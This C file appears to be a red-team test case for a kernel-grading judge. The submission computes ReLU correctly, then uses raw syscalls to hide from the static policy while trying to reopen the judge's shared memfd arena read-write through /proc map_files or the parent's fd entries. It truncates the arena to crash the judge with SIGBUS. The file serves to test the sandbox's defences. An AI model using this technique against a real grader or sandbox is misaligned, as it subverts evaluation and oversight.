// kjudge-case: task=level1/relu expect=pass
/* Red team, class 21 (shrinking the shared arena) without hooks: the worker
 * closed the arena's memfd after mapping it, but the mapping still names it.
 * Reads /proc/self/maps with raw syscalls, finds the "kj-arena" mapping,
 * and reopens the file behind it read-write through
 * /proc/self/map_files/<start>-<end> (and, failing that, through the
 * judge's own /proc/<ppid>/fd/N entries), to ftruncate it to 0 bytes so
 * that the judge's mapping faults (SIGBUS kills the judge).  Nothing here
 * is a symbol the static policy sees.  The reopen must fail: write-mode
 * opens refused on the CPU track, map_files needing
 * CAP_CHECKPOINT_RESTORE, the judge non-dumpable or outside the PID
 * namespace, and a sealed memfd besides.  If a descriptor opens
 * read-write and ftruncate works, the judge dies and the header's pass
 * fails. */
#include <stdint.h>
#include <stdio.h>
#include <string.h>

static long sc(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "0"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

static char maps[1 << 18];

/* a read-write descriptor of the arena, or a negative errno */
static long open_arena(void)
{
	long fd = sc(257 /* openat */, -100, (long)"/proc/self/maps", 0), n = 0, r;
	char path[96], *l, *dash;

	if (fd < 0)
		return fd;
	while (n < (long)sizeof(maps) - 1 && (r = sc(0, fd, (long)(maps + n), (long)sizeof(maps) - 1 - n)) > 0)
		n += r;
	sc(3, fd, 0, 0);
	maps[n] = '\0';
	l = strstr(maps, "kj-arena");
	if (!l)
		return -2;
	while (l > maps && l[-1] != '\n')
		l--;
	dash = strchr(l, ' ');
	if (!dash || dash - l > 40)
		return -2;
	snprintf(path, sizeof(path), "/proc/self/map_files/%.*s", (int)(dash - l), l);
	fd = sc(257, -100, (long)path, 02 /* O_RDWR */);
	if (fd >= 0)
		return fd;
	fprintf(stderr, "21b: open(%s, O_RDWR) = %ld\n", path, fd);
	/* the judge's descriptors: one of them is the same memfd */
	for (int i = 3; i < 64; i++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)sc(110 /* getppid */, 0, 0, 0), i);
		fd = sc(257, -100, (long)path, 02);
		if (fd >= 0)
			return fd;
	}
	fprintf(stderr, "21b: the judge's fd entries: last open = %ld\n", fd);
	return fd;
}

void relu(const float *x, float *y, int64_t B, int64_t D)
{
	static long fd = -1000;

	for (int64_t i = 0; i < B * D; i++)
		y[i] = x[i] > 0.0f ? x[i] : 0.0f;
	if (fd == -1000)
		fd = open_arena();
	if (fd >= 0)
		fprintf(stderr, "21b: ftruncate(%ld, 0) = %ld\n", fd, sc(77 /* ftruncate */, fd, 0, 0));
}
